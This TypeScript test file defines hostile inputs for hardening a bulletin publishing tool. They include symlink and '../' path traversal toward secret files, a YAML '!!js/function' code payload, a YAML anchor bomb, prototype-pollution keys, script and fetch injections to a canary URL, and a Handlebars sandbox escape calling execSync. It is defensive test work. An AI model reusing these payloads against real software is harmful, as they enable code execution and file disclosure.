import { article } from './attack.js'
import type { Place, ProgramAttack } from './programs.js'

const articles = { '01.md': article('题', '正文。') }

const build = (place: Place, ...words: string[]) =>
  place.bulletin('build', '.', '--out-dir', place.out, '--format', 'pdf,docx,html,wechat', ...words)

/** An issue with these settings. */
const settings = (
  name: string,
  yaml: (place: Place) => string,
  codes: readonly number[] = [0],
): ProgramAttack => ({
  name: `设置：${name}`,
  codes,
  async attack(place) {
    await place.write({ ...articles, 'bulletin.yaml': yaml(place) })
    await build(place)
    return []
  },
})

/** An issue whose settings or other files are symbolic links to what lies outside. */
const linked = (
  name: string,
  links: (place: Place) => Record<string, string>,
  { yaml, codes = [2] }: { yaml?: string; codes?: readonly number[] } = {},
): ProgramAttack => ({
  name: `符号链接：${name}`,
  codes,
  async attack(place) {
    await place.write({ ...articles, ...(yaml && { 'bulletin.yaml': yaml }) }, links(place))
    await build(place)
    await place.bulletin('check', '.')
    return []
  },
})

/** A template folder that came with the issue. */
const template = (
  name: string,
  files: (place: Place) => Record<string, string>,
  {
    codes = [0, 2],
    links = () => ({}),
  }: { codes?: readonly number[]; links?: (place: Place) => Record<string, string> } = {},
): ProgramAttack => ({
  name: `模板：${name}`,
  codes,
  async attack(place) {
    const own = Object.entries(files(place)).map(([path, text]) => [`own/${path}`, text])
    await place.write(
      { ...articles, 'bulletin.yaml': '模板: ./own\n刊名: 刊\n', ...Object.fromEntries(own) },
      links(place),
    )
    await build(place)
    await place.bulletin('template', 'check', 'own')
    return []
  },
})

const page = (head: string, body: string) =>
  `<!doctype html><html><head><meta charset="utf-8">${head}<style>{{{fontCss}}}{{{css}}}</style></head><body><main class="sheet" data-role="sheet" id="bulletin">${body}</main></body></html>`

/** What `bulletin.yaml`, its folder and a template folder can try. */
export const settingsAttacks: readonly ProgramAttack[] = [
  linked('bulletin.yaml', ({ aim }) => ({ 'bulletin.yaml': `${aim.outside}/secret.yaml` })),
  linked('bulletin.yaml 指向设备', () => ({ 'bulletin.yaml': '/dev/zero' })),
  linked('封面图片', ({ aim }) => ({ 'images/cover.svg': `${aim.outside}/secret.svg` }), {
    yaml: '刊名: 刊\n封面: images/cover.svg\n',
    codes: [1],
  }),
  linked('印章图片', ({ aim }) => ({ 'images/seal.svg': `${aim.outside}/secret.svg` }), {
    yaml: '模板: document\n发文机关标志: 局\n标题: 题\n署名: 局\n印章: images/seal.svg\n',
    codes: [1, 2],
  }),
  linked('字体', ({ aim }) => ({ 'font.ttf': `${aim.outside}/secret.txt` }), {
    yaml: '刊名: 刊\n字体:\n  正文: ./font.ttf\n',
    codes: [0, 2],
  }),
  settings('封面 ../', ({ aim }) => `刊名: 刊\n封面: ${aim.way}/secret.svg\n`, [1]),
  settings('封面 file:、绝对路径', ({ aim }) => `刊名: 刊\n封面: ${aim.outside}/secret.svg\n`, [2]),
  settings(
    '印章 ../',
    ({ aim }) =>
      `模板: document\n发文机关标志: 局\n标题: 题\n署名: 局\n印章: ${aim.way}/secret.svg\n`,
    [1, 2],
  ),
  settings(
    '项名 __proto__、constructor',
    () =>
      '__proto__: { title: 污染, template: document }\nconstructor: { prototype: { title: 污染 } }\nprototype: x\n刊名: 刊\n',
    [2],
  ),
  settings(
    '分项里的 __proto__',
    () =>
      '刊名: 刊\n栏目:\n  - __proto__\n  - { 名称: constructor, __proto__: { 简讯: true } }\n版记:\n  __proto__: 甲\n  constructor: 乙\n  toString: 丙\nWord样式:\n  __proto__: 标题\n',
    [0, 2],
  ),
  settings(
    'YAML 代码标签、!include',
    ({ aim }) =>
      `title: !!js/function "function(){require('fs').writeFileSync('${aim.marker}','x')}()"\npublisher: !include ${aim.outside}/secret.txt\n`,
    [2],
  ),
  settings('YAML 锚点炸弹', () => {
    const lines = [...'bcdefghij'].map(
      (one, i) => `${one}: &${one} [${Array(9).fill(`*${'abcdefghi'[i]}`).join(',')}]`,
    )
    return `a: &a [x,x,x,x,x,x,x,x,x]\n${lines.join('\n')}\ntitle: *j\n`
  }, [2]),
  settings('YAML 一万层', () => `title: ${'['.repeat(10_000)}${']'.repeat(10_000)}\n`, [2]),
  settings(
    'YAML 一万个项名',
    () => Array.from({ length: 10_000 }, (_, n) => `k${n}: 1\n`).join(''),
    [2],
  ),
  settings(
    '刊名里的 <script>、{{…}}、PDF 字符',
    ({ aim }) =>
      `刊名: ${JSON.stringify(`<script>fetch('${aim.url}')</script>{{constructor}}`)}\n主办: ${JSON.stringify(`)>>/OpenAction<</S/JavaScript/JS(app.alert(1))>> endobj <img src=${aim.url}>`)}\n版记:\n  ${JSON.stringify('"><script>')}: ${JSON.stringify(`<iframe src=${aim.url}>`)}\n`,
    [0, 2],
  ),
  {
    name: '栏目、单位叫 __proto__、constructor',
    async attack(place) {
      const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf']
      const files = names.map((name, index) => [
        `0${index}.md`,
        `---\ntitle: ${name}\nsection: ${name}\nunit: ${name}\nauthor: ${name}\n---\n\n正文[^${name}]。\n\n[^${name}]: 注\n`,
      ])
      await place.write({
        ...Object.fromEntries(files),
        'bulletin.yaml': '刊名: 刊\n期号: 1\n日期: 2021-06-30\n',
        'rules.yaml': `分值:\n  栏目:\n    __proto__: 8\n    constructor: 3\n别名:\n  __proto__: 馆\n单位:\n  __proto__: [toString]\n其他记录: records.csv\n`,
        'records.csv': '单位,分,__proto__\n__proto__,3,x\nconstructor,2,y\n',
      })
      await build(place)
      const rules = ['--rules', 'rules.yaml', '--csv', `${place.out}/a.csv`]
      const { stdout } = await place.bulletin('stats', '.', ...rules, '--json')
      const index = await place.bulletin('index', '.', '--csv', `${place.out}/b.csv`, '--json')
      const lost = names.filter((name) => !stdout.includes(name) || !index.stdout.includes(name))
      return lost.map((name) => `少了 ${name}`)
    },
  },
  template('脚本、iframe、meta refresh，没有 CSP', ({ aim: { url, outside } }) => ({
    'page.hbs': page(
      `<script>fetch('${url}')</script><meta http-equiv="refresh" content="0;url=file://${outside}/secret.txt"><link rel="stylesheet" href="${url}"><link rel="stylesheet" href="file://${outside}/secret.css">`,
      `<img src="${url}"><img src="file://${outside}/secret.png"><iframe src="file://${outside}/secret.txt"></iframe><object data="${url}"></object><embed src="file://${outside}/secret.svg"><p>字</p>`,
    ),
  })),
  template('只有外面的样式和图片，没有 CSP', ({ aim: { url, outside } }) => ({
    'page.hbs': page(
      `<link rel="stylesheet" href="file://${outside}/secret.css"><link rel="preload" as="image" href="${url}"><link rel="dns-prefetch" href="${url}">`,
      `<p>字</p><img src="${url}"><img src="file://${outside}/secret.svg"><svg><image href="${url}"/></svg><video src="${url}" poster="${url}"></video>`,
    ),
  })),
  template('样式里的 @import、url()、</style>', ({ aim: { url, outside } }) => ({
    'styles/more.css': `@import url(${url}); @import "file://${outside}/secret.css"; p { background: url(${url}); list-style: url(file://${outside}/secret.png) } @font-face { font-family: x; src: url(${url}) } </style><script>fetch('${url}')</script>`,
  })),
  template(
    'Handlebars 的 constructor、lookup、__proto__',
    ({ aim: { marker } }) => ({
      'page.hbs': page(
        '',
        `{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require('child_process').execSync('touch ${marker}');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}`,
      ),
    }),
    { codes: [2] },
  ),
  ...[
    `{{constructor.constructor "return 1"}}`,
    '{{lookup this "__proto__"}}',
    '{{#each __proto__}}{{@key}}{{/each}}',
    '{{__defineGetter__ "undefined" valueOf}}',
    '{{helperMissing}}{{blockHelperMissing}}',
    '{{#with (lookup this "constructor")}}{{this}}{{/with}}',
    '{{@root.constructor}}{{@root.__proto__}}',
  ].map((gadget) =>
    template(`Handlebars ${gadget.slice(0, 40)}`, () => ({ 'page.hbs': page('', gadget) })),
  ),
  template(
    '部件 {{> ../../…}}',
    ({ aim }) => ({
      'page.hbs': page('', `{{> ../${aim.way}/secret}}{{> (lookup this "title")}}`),
    }),
    { codes: [2] },
  ),
  template(
    '自己套自己的部件',
    () => ({
      'page.hbs': page('', '{{> cover}}'),
      'partials/cover.hbs': '{{> cover}}{{> cover}}',
    }),
    { codes: [2] },
  ),
  ...[
    '{{> constructor}}',
    '{{#> cover}}字{{/cover}}',
    '{{#*inline "x"}}字{{/inline}}',
    '{{* decorator}}',
    '{{#if (nope 1)}}字{{/if}}',
    '{{publisher 1}}{{publisher x=1}}',
    '{{#each}}字{{/each}}',
    '{{../../publisher}}{{@nope}}',
    '{{1}}{{"x"}}',
  ].map((text) =>
    template(`没有的写法 ${text}`, () => ({ 'page.hbs': page('', text) }), { codes: [2] }),
  ),
  template('template.yaml 写着 ../', ({ aim }) => ({
    'template.yaml': `extends: ../${aim.way}\n`,
  })),
  template('部件、样式是符号链接', () => ({ 'styles/a.css': 'p {}' }), {
    codes: [0],
    links: ({ aim }) => ({
      'own/partials/cover.hbs': `${aim.outside}/secret.txt`,
      'own/styles/b.css': `${aim.outside}/secret.css`,
      'own/page.hbs': `${aim.outside}/secret.txt`,
      'own/partials/more': aim.outside,
    }),
  }),
  template('template.yaml 是符号链接', () => ({ 'styles/a.css': 'p {}' }), {
    links: ({ aim }) => ({ 'own/template.yaml': `${aim.outside}/template.yaml` }),
  }),
  template('styles 文件夹是符号链接', () => ({ 'partials/x.hbs': '' }), {
    links: ({ aim }) => ({ 'own/styles': aim.outside }),
  }),
]
